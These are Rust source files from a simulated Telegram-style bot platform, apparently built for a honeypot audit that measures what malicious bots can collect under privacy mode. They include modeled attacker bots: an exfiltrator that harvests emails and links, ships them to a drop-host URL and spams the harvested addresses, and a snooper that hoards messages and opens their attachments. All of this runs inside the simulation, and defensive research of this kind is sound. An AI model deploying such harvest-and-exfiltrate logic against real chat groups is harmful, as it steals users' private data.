pub fn deep_link(username: &str, rights: TgRights) -> String {
    format!(
        "https://{TELEGRAM_DEEPLINK_HOST}/{username}?startgroup=true&admin={}",
        rights.to_deeplink_field()
    )
}

/// The web service answering deep-link GETs for one [`TgPlatform`].
pub struct DeepLinkGate {
    platform: TgPlatform,
}

impl DeepLinkGate {
    /// A gate over the given platform.
    pub fn new(platform: TgPlatform) -> DeepLinkGate {
        DeepLinkGate { platform }
    }

    /// Mount at [`TELEGRAM_DEEPLINK_HOST`].
    pub fn mount(self, net: &Network) {
        let platform = self.platform;
        net.mount(
            TELEGRAM_DEEPLINK_HOST,
            move |req: &Request, _ctx: &mut ServiceCtx<'_>| {
                let segments = req.url.segments();
                let Some(username) = segments.first().filter(|s| !s.is_empty()) else {
                    return Response::status(Status::BadRequest);
                };
                let Some(bot) = platform.bot_by_username(username) else {
                    return Response::status(Status::Gone);
                };
                let (username, rights, privacy_mode) =
                    platform.bot_info(bot).expect("registered bot has info");
                Response::ok(format!(
                    "<html><body>Add @{username} to a group</body></html>"
                ))
                .with_header("x-tg-bot", &username)
                .with_header("x-tg-rights", &rights.to_deeplink_field())
                .with_header("x-tg-privacy", if privacy_mode { "on" } else { "off" })
            },
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::client::{ClientConfig, HttpClient};
    use netsim::clock::VirtualClock;
    use netsim::http::Url;

    fn gated_world() -> (TgPlatform, Network) {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        let p = TgPlatform::new(clock);
        DeepLinkGate::new(p.clone()).mount(&net);
        (p, net)
    }

    #[test]
    fn known_bot_echoes_rights_and_privacy() {
        let (p, net) = gated_world();
        p.register_bot(
            "modbot",
            TgRights::DELETE_MESSAGES | TgRights::BAN_USERS,
            true,
        )
        .unwrap();
        let mut client = HttpClient::new(net, ClientConfig::default());
        let link = deep_link("modbot", TgRights::DELETE_MESSAGES | TgRights::BAN_USERS);
        let resp = client.get(Url::parse(&link).unwrap()).unwrap();
        assert_eq!(resp.status, Status::Ok);
        assert_eq!(resp.header("x-tg-bot"), Some("modbot"));
        assert_eq!(
            resp.header("x-tg-rights"),
            Some("delete_messages+ban_users")
        );
        assert_eq!(resp.header("x-tg-privacy"), Some("on"));
    }

    #[test]
    fn privacy_off_bot_reports_off() {
        let (p, net) = gated_world();
        p.register_bot("openbot", TgRights::NONE, false).unwrap();
        let mut client = HttpClient::new(net, ClientConfig::default());
        let resp = client
            .get(Url::https(TELEGRAM_DEEPLINK_HOST, "/openbot"))
            .unwrap();
        assert_eq!(resp.header("x-tg-rights"), Some(""));
        assert_eq!(resp.header("x-tg-privacy"), Some("off"));
    }

    #[test]
    fn unknown_bot_is_gone_and_empty_path_is_malformed() {
        let (_p, net) = gated_world();
        let mut client = HttpClient::new(net, ClientConfig::default());
        let gone = client
            .get(Url::https(TELEGRAM_DEEPLINK_HOST, "/ghostbot"))
            .unwrap();
        assert_eq!(gone.status, Status::Gone);
        let bad = client.get(Url::https(TELEGRAM_DEEPLINK_HOST, "/")).unwrap();
        assert_eq!(bad.status, Status::BadRequest);
    }
}
