//! Bot backend behaviours for the Telegram-style substrate.
//!
//! Mirrors `botsdk`'s split: a [`TgBehavior`] is developer-controlled
//! backend code receiving updates through a [`TgApi`], which couples the
//! bot's *platform* account (mediated by delivery policy and rights) with
//! the backend's own unmediated *network* access.
//!
//! The malicious counterparts differ from the Discord versions exactly
//! where the platforms differ: there is no history endpoint, so
//! [`TgSnooperBehavior`] can only hoard messages the delivery policy let it
//! see — with privacy mode on and no admin rights, that is nothing but
//! commands, and the honeypot's detection counts show it.

use crate::tg::{TgPlatform, TgResult, TgUpdate};
use netsim::client::{ClientConfig, HttpClient};
use netsim::http::{Response, Url};
use netsim::{NetError, Network};
use platform::{ActorId, RoomId};
use std::collections::{BTreeMap, BTreeSet};

/// Extract `http(s)://…` substrings from arbitrary bytes — how a document
/// preview/open ends up fetching remote resources embedded in metadata.
pub fn urls_in_bytes(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    let mut out = Vec::new();
    for scheme in ["https://", "http://"] {
        let mut offset = 0;
        while let Some(pos) = text[offset..].find(scheme) {
            let abs = offset + pos;
            let tail = &text[abs..];
            let end = tail
                .find(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '>' || c == ')')
                .unwrap_or(tail.len());
            out.push(tail[..end].to_string());
            offset = abs + end.max(1);
        }
    }
    out.sort();
    out.dedup();
    out
}

/// Everything a behaviour can do: platform actions as the bot account, and
/// raw network access as the developer's server.
pub struct TgApi {
    platform: TgPlatform,
    bot: ActorId,
    http: HttpClient,
}

impl TgApi {
    /// Construct the API for one bot backend. `label` names the backend in
    /// network traces (`bot-backend/{label}`) — the honeypot attributes
    /// canary triggers to it.
    pub fn new(platform: TgPlatform, net: Network, bot: ActorId, label: &str) -> TgApi {
        let http = HttpClient::new(
            net,
            ClientConfig {
                user_agent: format!("bot-backend/{label}"),
                ..ClientConfig::default()
            },
        );
        TgApi {
            platform,
            bot,
            http,
        }
    }

    /// The bot's account ID.
    pub fn bot_id(&self) -> ActorId {
        self.bot
    }

    /// Post a message to a group as the bot.
    pub fn send(&self, group: RoomId, content: &str) -> TgResult<u64> {
        self.platform.send_message(self.bot, group, content, vec![])
    }

    /// Fetch a URL from the developer's backend server. Ordinary internet
    /// access — the platform has no say in it.
    pub fn fetch_url(&mut self, url: &str) -> Result<Response, NetError> {
        let url = Url::parse(url)?;
        self.http.get(url)
    }

    /// Direct platform access for advanced behaviours.
    pub fn platform(&self) -> &TgPlatform {
        &self.platform
    }
}

/// Developer-controlled backend logic.
pub trait TgBehavior: Send {
    /// Handle one update.
    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi);

    /// A short functional description, as it would appear in a listing.
    fn description(&self) -> String {
        "A chatbot.".to_string()
    }
}

/// A well-behaved bot: answers its own slash commands, ignores everything
/// else.
pub struct TgBenignBehavior {
    /// Functional tag shown in listings (music, fun, moderation, …).
    pub tag: String,
}

impl TgBenignBehavior {
    /// A benign bot.
    pub fn new(tag: &str) -> TgBenignBehavior {
        TgBenignBehavior {
            tag: tag.to_string(),
        }
    }
}

impl TgBehavior for TgBenignBehavior {
    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi) {
        let TgUpdate::Message { group, message } = update;
        if message.author == api.bot_id() {
            return;
        }
        let Some((cmd, _target)) = message.slash_command() else {
            return;
        };
        let reply = match cmd {
            "ping" => "pong".to_string(),
            "info" => format!("I am a {} bot. Try /help.", self.tag),
            "help" => "commands: /ping /info /help".to_string(),
            _ => return,
        };
        let _ = api.send(*group, &reply);
    }

    fn description(&self) -> String {
        format!("A friendly {} bot.", self.tag)
    }
}

/// An automated data-harvesting backend — the Telegram twin of
/// `botsdk::ExfiltratorBehavior`. Works on whatever the delivery policy
/// hands it: with privacy mode off it sees (and harvests) everything.
pub struct TgExfiltratorBehavior {
    /// Where the harvest is shipped, if mounted.
    pub drop_host: Option<String>,
    /// Whether harvested addresses are spammed (what an email canary
    /// detects), modeled as a delivery request to the address's mail host.
    pub spams_harvested_emails: bool,
    /// URLs fetched so far.
    pub fetched_urls: Vec<String>,
    /// Emails harvested so far.
    pub harvested_emails: Vec<String>,
    /// Attachments opened so far (filenames).
    pub opened_attachments: Vec<String>,
}

impl TgExfiltratorBehavior {
    /// A fresh exfiltrator; pass a drop host to also ship the harvest out.
    pub fn new(drop_host: Option<&str>) -> TgExfiltratorBehavior {
        TgExfiltratorBehavior {
            drop_host: drop_host.map(str::to_string),
            spams_harvested_emails: false,
            fetched_urls: Vec::new(),
            harvested_emails: Vec::new(),
            opened_attachments: Vec::new(),
        }
    }

    /// Enable spamming of harvested addresses.
    pub fn spamming(mut self) -> TgExfiltratorBehavior {
        self.spams_harvested_emails = true;
        self
    }
}

impl TgBehavior for TgExfiltratorBehavior {
    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi) {
        let TgUpdate::Message { message, .. } = update;
        if message.author == api.bot_id() {
            return;
        }
        for url in message.urls() {
            if api.fetch_url(url).is_ok() {
                self.fetched_urls.push(url.to_string());
            }
        }
        for email in message.emails() {
            let email = email.to_string();
            self.harvested_emails.push(email.clone());
            if let Some(host) = &self.drop_host {
                let _ = api.fetch_url(&format!("https://{host}/drop?data={email}"));
            }
            if self.spams_harvested_emails {
                if let Some((local, domain)) = email.split_once('@') {
                    let _ = api.fetch_url(&format!("https://{domain}/mail/{local}"));
                }
            }
        }
        for att in message.attachments.clone() {
            self.opened_attachments.push(att.filename.clone());
            for url in urls_in_bytes(&att.bytes) {
                if api.fetch_url(&url).is_ok() {
                    self.fetched_urls.push(url);
                }
            }
        }
    }

    fn description(&self) -> String {
        "A totally normal utility bot.".to_string()
    }
}

/// The manual, one-shot developer snoop, Telegram edition.
///
/// There is no history endpoint to skim, so the backend *hoards* every
/// message delivery policy handed it; once `trigger_after` have
/// accumulated in a group, the "developer logs in", opens the hoard's
/// documents and links, and posts a human aside. With privacy mode on and
/// no admin rights the hoard holds nothing worth opening — the platform
/// default genuinely blunts this attack.
pub struct TgSnooperBehavior {
    /// Messages hoarded per group before curiosity wins.
    pub trigger_after: usize,
    /// What the developer blurts out after seeing the content.
    pub aside: String,
    hoard: BTreeMap<RoomId, Vec<crate::tg::TgMessage>>,
    snooped: BTreeSet<RoomId>,
    aside_posted: BTreeSet<RoomId>,
    /// URLs fetched during snoops.
    pub fetched_urls: Vec<String>,
    /// Attachments opened during snoops (filenames).
    pub opened_attachments: Vec<String>,
}

impl TgSnooperBehavior {
    /// A snooper with the given patience.
    pub fn new(trigger_after: usize) -> TgSnooperBehavior {
        TgSnooperBehavior {
            trigger_after,
            aside: "wtf is this bro".to_string(),
            hoard: BTreeMap::new(),
            snooped: BTreeSet::new(),
            aside_posted: BTreeSet::new(),
            fetched_urls: Vec::new(),
            opened_attachments: Vec::new(),
        }
    }
}

impl TgSnooperBehavior {
    /// Open a logged message's links and attachments as the developer.
    fn skim(&mut self, msg: &crate::tg::TgMessage, api: &mut TgApi) {
        for url in msg.urls() {
            if api.fetch_url(url).is_ok() {
                self.fetched_urls.push(url.to_string());
            }
        }
        for att in &msg.attachments {
            self.opened_attachments.push(att.filename.clone());
            for url in urls_in_bytes(&att.bytes) {
                if api.fetch_url(&url).is_ok() {
                    self.fetched_urls.push(url);
                }
            }
        }
    }

    /// The human tell, blurted the first time the skim actually turned up
    /// content (not at the trigger itself — an empty log is boring).
    fn maybe_aside(&mut self, group: RoomId, opened_before: usize, api: &mut TgApi) {
        let opened_now = self.fetched_urls.len() + self.opened_attachments.len();
        if opened_now > opened_before && self.aside_posted.insert(group) {
            let _ = api.send(group, &self.aside);
        }
    }
}

impl TgBehavior for TgSnooperBehavior {
    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi) {
        let TgUpdate::Message { group, message } = update;
        if message.author == api.bot_id() {
            return;
        }
        let hoard = self.hoard.entry(*group).or_default();
        hoard.push(message.clone());
        if self.snooped.contains(group) {
            // Curiosity already won in this group: the developer now
            // watches the log live, opening whatever arrives. (Unlike the
            // Discord snooper there is no history API to skim later — bots
            // only ever see messages at delivery time.)
            let opened_before = self.fetched_urls.len() + self.opened_attachments.len();
            let message = message.clone();
            self.skim(&message, api);
            self.maybe_aside(*group, opened_before, api);
            return;
        }
        if hoard.len() < self.trigger_after {
            return;
        }
        self.snooped.insert(*group);

        // The developer skims what the backend logged.
        let opened_before = self.fetched_urls.len() + self.opened_attachments.len();
        let stash = self.hoard.get(group).cloned().unwrap_or_default();
        for msg in &stash {
            self.skim(msg, api);
        }
        self.maybe_aside(*group, opened_before, api);
    }

    fn description(&self) -> String {
        "Fun commands and memes!".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tg::TgError;
    use netsim::clock::VirtualClock;
    use netsim::http::Request;
    use netsim::ServiceCtx;
    use platform::{ChatAttachment, TgRights};

    struct World {
        p: TgPlatform,
        net: Network,
        alice: ActorId,
        group: RoomId,
        bot: ActorId,
    }

    fn world(rights: TgRights, privacy: bool) -> World {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        net.mount("canary.sink", |req: &Request, _ctx: &mut ServiceCtx<'_>| {
            netsim::http::Response::ok(format!("signal {}", req.url.path))
        });
        let p = TgPlatform::new(clock);
        let owner = p.register_user("owner", "o@x.y");
        let alice = p.register_user("alice", "a@x.y");
        let group = p.create_group(owner, "g").unwrap();
        let code = p.invite_link(owner, group).unwrap();
        p.join_group(alice, group, Some(&code)).unwrap();
        let bot = p.register_bot("shadybot", rights, privacy).unwrap();
        p.add_bot_to_group(owner, group, bot).unwrap();
        p.connect_gateway(bot).unwrap();
        World {
            p,
            net,
            alice,
            group,
            bot,
        }
    }

    fn pump(w: &World, behavior: &mut dyn TgBehavior) {
        let mut api = TgApi::new(w.p.clone(), w.net.clone(), w.bot, "shady");
        for update in w.p.drain_updates(w.bot) {
            behavior.on_update(&update, &mut api);
        }
    }

    #[test]
    fn benign_bot_replies_to_slash_ping() {
        let w = world(TgRights::NONE, true);
        let mut b = TgBenignBehavior::new("fun");
        w.p.send_message(w.alice, w.group, "/ping", vec![]).unwrap();
        pump(&w, &mut b);
        let owner = 1_000;
        let history = w.p.read_history(owner, w.group).unwrap();
        assert_eq!(history.last().unwrap().content, "pong");
        assert_eq!(history.last().unwrap().author, w.bot);
    }

    #[test]
    fn exfiltrator_with_privacy_off_harvests_chatter() {
        let w = world(TgRights::NONE, false);
        let mut x = TgExfiltratorBehavior::new(None);
        w.p.send_message(
            w.alice,
            w.group,
            "see https://canary.sink/t/tok1 ok",
            vec![],
        )
        .unwrap();
        pump(&w, &mut x);
        assert_eq!(x.fetched_urls, vec!["https://canary.sink/t/tok1"]);
    }

    #[test]
    fn exfiltrator_behind_privacy_mode_sees_nothing() {
        let w = world(TgRights::NONE, true);
        let mut x = TgExfiltratorBehavior::new(None);
        w.p.send_message(
            w.alice,
            w.group,
            "see https://canary.sink/t/tok2 ok",
            vec![],
        )
        .unwrap();
        pump(&w, &mut x);
        assert!(
            x.fetched_urls.is_empty(),
            "privacy mode withheld the message"
        );
    }

    #[test]
    fn snooper_hoards_then_opens_once() {
        let w = world(TgRights::NONE, false);
        let mut s = TgSnooperBehavior::new(3);
        let doc = ChatAttachment::new(
            "notes.docx",
            "application/vnd.word",
            b"https://canary.sink/t/snoop7".to_vec(),
        );
        w.p.send_message(
            w.alice,
            w.group,
            "first https://canary.sink/t/early",
            vec![doc],
        )
        .unwrap();
        w.p.send_message(w.alice, w.group, "second", vec![])
            .unwrap();
        pump(&w, &mut s);
        assert!(s.fetched_urls.is_empty(), "dormant below threshold");
        w.p.send_message(w.alice, w.group, "third", vec![]).unwrap();
        pump(&w, &mut s);
        assert!(s
            .fetched_urls
            .contains(&"https://canary.sink/t/early".to_string()));
        assert!(s
            .fetched_urls
            .contains(&"https://canary.sink/t/snoop7".to_string()));
        assert_eq!(s.opened_attachments, vec!["notes.docx"]);
        let owner = 1_000;
        let last = w.p.read_history(owner, w.group).unwrap().pop().unwrap();
        assert_eq!(last.content, "wtf is this bro");
        assert_eq!(last.author, w.bot);
        // Once curiosity wins, the developer watches the log live: content
        // arriving later is opened too (there is no history API to come
        // back to), but the aside is blurted only once.
        let before = s.fetched_urls.len();
        w.p.send_message(
            w.alice,
            w.group,
            "fourth https://canary.sink/t/later",
            vec![],
        )
        .unwrap();
        pump(&w, &mut s);
        assert_eq!(s.fetched_urls.len(), before + 1);
        assert!(s
            .fetched_urls
            .contains(&"https://canary.sink/t/later".to_string()));
        let last = w.p.read_history(owner, w.group).unwrap().pop().unwrap();
        assert_ne!(last.content, "wtf is this bro", "aside posted only once");
    }

    #[test]
    fn snooper_behind_privacy_mode_hoards_only_commands() {
        let w = world(TgRights::NONE, true);
        let mut s = TgSnooperBehavior::new(2);
        w.p.send_message(w.alice, w.group, "secret https://canary.sink/t/x", vec![])
            .unwrap();
        w.p.send_message(w.alice, w.group, "/help", vec![]).unwrap();
        w.p.send_message(w.alice, w.group, "/info", vec![]).unwrap();
        pump(&w, &mut s);
        assert!(
            s.fetched_urls.is_empty(),
            "the hoard held only command lines — nothing to open"
        );
    }

    #[test]
    fn api_send_respects_membership() {
        let w = world(TgRights::NONE, false);
        let other = w.p.create_group(w.alice, "other").unwrap();
        let api = TgApi::new(w.p.clone(), w.net.clone(), w.bot, "shady");
        assert_eq!(api.send(other, "hi"), Err(TgError::NotMember));
    }

    #[test]
    fn urls_in_bytes_finds_embedded_links() {
        let doc = b"PK docProps https://canary.sink/t/abc more <a href=\"http://x.y/z\">";
        assert_eq!(
            urls_in_bytes(doc),
            vec!["http://x.y/z", "https://canary.sink/t/abc"]
        );
    }
}
