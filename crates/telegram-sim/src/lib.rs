//! # telegram-sim — a deterministic Telegram-style messaging substrate
//!
//! The second platform the audit pipeline runs against, modeled on the
//! parts of Telegram's bot ecosystem the paper's risk analysis cares
//! about — and deliberately *different* from `discord-sim` where the real
//! platforms differ:
//!
//! * **Coarse permissions.** A bot carries a small set of group admin
//!   rights ([`platform::TgRights`], 8 bits) plus a boolean **privacy
//!   mode**, instead of Discord's 41-bit field with per-channel
//!   overwrites. With privacy mode off (or any admin right held) the bot
//!   is delivered *every* group message — the "Bots can Snoop" over-receipt
//!   risk in its purest form.
//! * **Deep-link installs.** Bots are added to groups from
//!   `https://t.sim/<username>?startgroup=…` links; there is no OAuth
//!   consent screen and no captcha wall, so honeypot installs are free.
//! * **No webhooks.** The webhook-token theft class does not exist here;
//!   the campaign simply cannot plant that canary.
//! * **No bot history reads.** The Bot API has no "fetch past messages"
//!   endpoint: a snooping developer only ever sees what delivery policy
//!   handed the bot live. Privacy mode is therefore a real mitigation, and
//!   its effect shows up in honeypot detection counts.
//!
//! Determinism matches the rest of the workspace: dense counter IDs, all
//! time from the shared [`netsim::clock::VirtualClock`], no RNG anywhere.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod behavior;
pub mod gate;
pub mod substrate;
pub mod tg;

pub use behavior::{
    urls_in_bytes, TgApi, TgBehavior, TgBenignBehavior, TgExfiltratorBehavior, TgSnooperBehavior,
};
pub use gate::{deep_link, DeepLinkGate};
pub use substrate::{TelegramSubstrate, TgBot};
pub use tg::{TgError, TgMessage, TgPlatform, TgResult, TgUpdate};
