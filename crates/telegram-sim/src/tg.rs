//! The Telegram-style platform state machine: actors, bots, groups,
//! messages, and the privacy-mode delivery policy.

use netsim::clock::{SimInstant, VirtualClock};
use parking_lot::Mutex;
use platform::{ActorId, ChatAttachment, RoomId, TgRights};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fmt;
use std::sync::Arc;

/// Platform operation failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TgError {
    /// The actor ID is not registered.
    UnknownActor,
    /// The group ID does not exist.
    UnknownGroup,
    /// No bot is registered under this username.
    UnknownBot(String),
    /// A bot username was registered twice.
    UsernameTaken(String),
    /// The caller is not a member of the group.
    NotMember,
    /// Only the group owner may do this.
    NotOwner,
    /// Joining a private group requires its invite link.
    InviteRequired,
    /// The supplied invite code does not match the group's.
    BadInvite,
    /// The account is not a bot / not a connected bot.
    NotABot,
    /// The Bot API has no history endpoint: bots only see live delivery.
    BotsCannotReadHistory,
}

impl fmt::Display for TgError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TgError::UnknownActor => f.write_str("unknown actor"),
            TgError::UnknownGroup => f.write_str("unknown group"),
            TgError::UnknownBot(u) => write!(f, "no bot registered as @{u}"),
            TgError::UsernameTaken(u) => write!(f, "bot username @{u} already taken"),
            TgError::NotMember => f.write_str("not a member of this group"),
            TgError::NotOwner => f.write_str("only the group owner may do this"),
            TgError::InviteRequired => f.write_str("private group: invite link required"),
            TgError::BadInvite => f.write_str("invite link does not match this group"),
            TgError::NotABot => f.write_str("account is not a (connected) bot"),
            TgError::BotsCannotReadHistory => f.write_str("the Bot API has no history endpoint"),
        }
    }
}

impl std::error::Error for TgError {}

/// Result alias for platform operations.
pub type TgResult<T> = Result<T, TgError>;

/// A message in a group.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TgMessage {
    /// Monotonic identifier.
    pub id: u64,
    /// Group it was posted in.
    pub group: RoomId,
    /// Author account (human or bot).
    pub author: ActorId,
    /// Text content.
    pub content: String,
    /// Attached files.
    pub attachments: Vec<ChatAttachment>,
    /// Virtual post time.
    pub at: SimInstant,
}

impl TgMessage {
    /// URLs mentioned in the content (scheme `http`/`https`).
    pub fn urls(&self) -> Vec<&str> {
        self.content
            .split_whitespace()
            .filter(|w| w.starts_with("http://") || w.starts_with("https://"))
            .collect()
    }

    /// Email addresses mentioned in the content (lightweight heuristic:
    /// `local@domain.tld` tokens).
    pub fn emails(&self) -> Vec<&str> {
        self.content
            .split_whitespace()
            .map(|w| {
                w.trim_matches(|c: char| {
                    !c.is_ascii_alphanumeric()
                        && c != '@'
                        && c != '.'
                        && c != '-'
                        && c != '_'
                        && c != '+'
                })
            })
            .filter(|w| {
                let Some((local, domain)) = w.split_once('@') else {
                    return false;
                };
                !local.is_empty()
                    && domain.contains('.')
                    && !domain.starts_with('.')
                    && !domain.ends_with('.')
            })
            .collect()
    }

    /// Whether the content invokes `/cmd` (optionally `/cmd@username`).
    /// Returns the bare command without the slash.
    pub fn slash_command(&self) -> Option<(&str, Option<&str>)> {
        let first = self.content.split_whitespace().next()?;
        let rest = first.strip_prefix('/')?;
        if rest.is_empty() {
            return None;
        }
        match rest.split_once('@') {
            Some((cmd, bot)) if !cmd.is_empty() => Some((cmd, Some(bot))),
            Some(_) => None,
            None => Some((rest, None)),
        }
    }
}

/// An update delivered to a connected bot backend (the `getUpdates`
/// analogue).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TgUpdate {
    /// A group message the delivery policy let this bot see.
    Message {
        /// Group it was posted in.
        group: RoomId,
        /// The message itself.
        message: TgMessage,
    },
}

#[derive(Debug, Clone)]
struct ActorRec {
    name: String,
    #[allow(dead_code)]
    email: String,
    is_bot: bool,
}

#[derive(Debug, Clone)]
struct BotReg {
    username: String,
    rights: TgRights,
    privacy_mode: bool,
    commands: Vec<String>,
}

#[derive(Debug, Clone)]
struct Group {
    #[allow(dead_code)]
    title: String,
    owner: ActorId,
    members: BTreeSet<ActorId>,
    /// Admin members and their granted rights (bots land here when their
    /// registered rights are non-empty).
    admins: BTreeMap<ActorId, TgRights>,
    invite_code: Option<String>,
    messages: Vec<TgMessage>,
}

#[derive(Debug)]
struct Inner {
    next_id: u64,
    actors: BTreeMap<ActorId, ActorRec>,
    by_username: BTreeMap<String, ActorId>,
    bots: BTreeMap<ActorId, BotReg>,
    groups: BTreeMap<RoomId, Group>,
    /// Pending update queues for connected bots.
    queues: BTreeMap<ActorId, VecDeque<TgUpdate>>,
}

/// A cheap cloneable handle to one Telegram-style world.
#[derive(Clone)]
pub struct TgPlatform {
    clock: VirtualClock,
    inner: Arc<Mutex<Inner>>,
}

impl TgPlatform {
    /// A fresh, empty world on the given clock.
    pub fn new(clock: VirtualClock) -> TgPlatform {
        TgPlatform {
            clock,
            inner: Arc::new(Mutex::new(Inner {
                next_id: 1_000,
                actors: BTreeMap::new(),
                by_username: BTreeMap::new(),
                bots: BTreeMap::new(),
                groups: BTreeMap::new(),
                queues: BTreeMap::new(),
            })),
        }
    }

    /// The world's clock.
    pub fn clock(&self) -> VirtualClock {
        self.clock.clone()
    }

    /// Register a human account. IDs are dense counters, assigned in
    /// registration order — determinism by construction.
    pub fn register_user(&self, name: &str, email: &str) -> ActorId {
        let mut inner = self.inner.lock();
        let id = inner.next_id;
        inner.next_id += 1;
        inner.actors.insert(
            id,
            ActorRec {
                name: name.to_string(),
                email: email.to_string(),
                is_bot: false,
            },
        );
        id
    }

    /// Register a bot under a unique `@username` with the admin rights its
    /// deep link will request and its privacy-mode setting.
    pub fn register_bot(
        &self,
        username: &str,
        rights: TgRights,
        privacy_mode: bool,
    ) -> TgResult<ActorId> {
        let mut inner = self.inner.lock();
        if inner.by_username.contains_key(username) {
            return Err(TgError::UsernameTaken(username.to_string()));
        }
        let id = inner.next_id;
        inner.next_id += 1;
        inner.actors.insert(
            id,
            ActorRec {
                name: username.to_string(),
                email: String::new(),
                is_bot: true,
            },
        );
        inner.by_username.insert(username.to_string(), id);
        inner.bots.insert(
            id,
            BotReg {
                username: username.to_string(),
                rights,
                privacy_mode,
                commands: Vec::new(),
            },
        );
        Ok(id)
    }

    /// Advertise the bot's slash commands (`setMyCommands`).
    pub fn set_commands(&self, bot: ActorId, commands: Vec<String>) -> TgResult<()> {
        let mut inner = self.inner.lock();
        let reg = inner.bots.get_mut(&bot).ok_or(TgError::NotABot)?;
        reg.commands = commands;
        Ok(())
    }

    /// Look up a bot account by username.
    pub fn bot_by_username(&self, username: &str) -> Option<ActorId> {
        self.inner.lock().by_username.get(username).copied()
    }

    /// `(username, rights, privacy_mode)` for a registered bot.
    pub fn bot_info(&self, bot: ActorId) -> Option<(String, TgRights, bool)> {
        self.inner
            .lock()
            .bots
            .get(&bot)
            .map(|r| (r.username.clone(), r.rights, r.privacy_mode))
    }

    /// Whether the account is a bot.
    pub fn is_bot(&self, actor: ActorId) -> bool {
        self.inner
            .lock()
            .actors
            .get(&actor)
            .map(|a| a.is_bot)
            .unwrap_or(false)
    }

    /// An account's display name.
    pub fn actor_name(&self, actor: ActorId) -> Option<String> {
        self.inner.lock().actors.get(&actor).map(|a| a.name.clone())
    }

    /// Create a private group owned by `owner`.
    pub fn create_group(&self, owner: ActorId, title: &str) -> TgResult<RoomId> {
        let mut inner = self.inner.lock();
        if !inner.actors.contains_key(&owner) {
            return Err(TgError::UnknownActor);
        }
        let id = inner.next_id;
        inner.next_id += 1;
        let mut members = BTreeSet::new();
        members.insert(owner);
        inner.groups.insert(
            id,
            Group {
                title: title.to_string(),
                owner,
                members,
                admins: BTreeMap::new(),
                invite_code: None,
                messages: Vec::new(),
            },
        );
        Ok(id)
    }

    /// Mint (or return the existing) invite link code for a group. Owner
    /// only.
    pub fn invite_link(&self, caller: ActorId, group: RoomId) -> TgResult<String> {
        let mut inner = self.inner.lock();
        let g = inner.groups.get_mut(&group).ok_or(TgError::UnknownGroup)?;
        if g.owner != caller {
            return Err(TgError::NotOwner);
        }
        Ok(g.invite_code
            .get_or_insert_with(|| format!("tg-join-{group}"))
            .clone())
    }

    /// Join a private group with its invite code.
    pub fn join_group(&self, actor: ActorId, group: RoomId, invite: Option<&str>) -> TgResult<()> {
        let mut inner = self.inner.lock();
        if !inner.actors.contains_key(&actor) {
            return Err(TgError::UnknownActor);
        }
        let g = inner.groups.get_mut(&group).ok_or(TgError::UnknownGroup)?;
        if g.members.contains(&actor) {
            return Ok(());
        }
        match (&g.invite_code, invite) {
            (Some(code), Some(given)) if code == given => {}
            (Some(_), Some(_)) => return Err(TgError::BadInvite),
            (_, None) | (None, Some(_)) => return Err(TgError::InviteRequired),
        }
        g.members.insert(actor);
        Ok(())
    }

    /// Add a registered bot to a group (the deep-link install). The
    /// installer must own the group; the bot is granted exactly its
    /// registered admin rights (admin status iff the set is non-empty).
    pub fn add_bot_to_group(
        &self,
        installer: ActorId,
        group: RoomId,
        bot: ActorId,
    ) -> TgResult<ActorId> {
        let mut inner = self.inner.lock();
        let rights = inner.bots.get(&bot).ok_or(TgError::NotABot)?.rights;
        let g = inner.groups.get_mut(&group).ok_or(TgError::UnknownGroup)?;
        if g.owner != installer {
            return Err(TgError::NotOwner);
        }
        g.members.insert(bot);
        if !rights.is_empty() {
            g.admins.insert(bot, rights);
        }
        Ok(bot)
    }

    /// The bot's admin rights in a group (empty set when not an admin).
    pub fn admin_rights(&self, group: RoomId, actor: ActorId) -> TgResult<TgRights> {
        let inner = self.inner.lock();
        let g = inner.groups.get(&group).ok_or(TgError::UnknownGroup)?;
        Ok(g.admins.get(&actor).copied().unwrap_or(TgRights::NONE))
    }

    /// Members of a group.
    pub fn members(&self, group: RoomId) -> TgResult<Vec<ActorId>> {
        let inner = self.inner.lock();
        let g = inner.groups.get(&group).ok_or(TgError::UnknownGroup)?;
        Ok(g.members.iter().copied().collect())
    }

    /// Open a bot's update queue (`getUpdates` long-poll session).
    pub fn connect_gateway(&self, bot: ActorId) -> TgResult<()> {
        let mut inner = self.inner.lock();
        if !inner.bots.contains_key(&bot) {
            return Err(TgError::NotABot);
        }
        inner.queues.entry(bot).or_default();
        Ok(())
    }

    /// Drain a connected bot's pending updates.
    pub fn drain_updates(&self, bot: ActorId) -> Vec<TgUpdate> {
        let mut inner = self.inner.lock();
        inner
            .queues
            .get_mut(&bot)
            .map(|q| q.drain(..).collect())
            .unwrap_or_default()
    }

    /// The delivery policy — the platform difference this whole substrate
    /// exists to measure. A connected bot is handed a group message iff:
    ///
    /// * it holds any admin right in that group (admins see everything), or
    /// * its privacy mode is **off** (the "read all group messages" grant), or
    /// * the message is a `/command` — and, when written `/cmd@username`,
    ///   the suffix names this bot — or @mentions the bot.
    fn bot_sees(reg: &BotReg, is_admin: bool, message: &TgMessage) -> bool {
        if is_admin || !reg.privacy_mode {
            return true;
        }
        if let Some((_cmd, target)) = message.slash_command() {
            return match target {
                Some(bot) => bot == reg.username,
                None => true,
            };
        }
        message.content.contains(&format!("@{}", reg.username))
    }

    /// Post a message to a group; appends to the transcript and fans out
    /// updates to connected member bots per the delivery policy.
    pub fn send_message(
        &self,
        author: ActorId,
        group: RoomId,
        content: &str,
        attachments: Vec<ChatAttachment>,
    ) -> TgResult<u64> {
        let now = self.clock.now();
        let mut inner = self.inner.lock();
        let id = inner.next_id;
        inner.next_id += 1;
        let inner = &mut *inner;
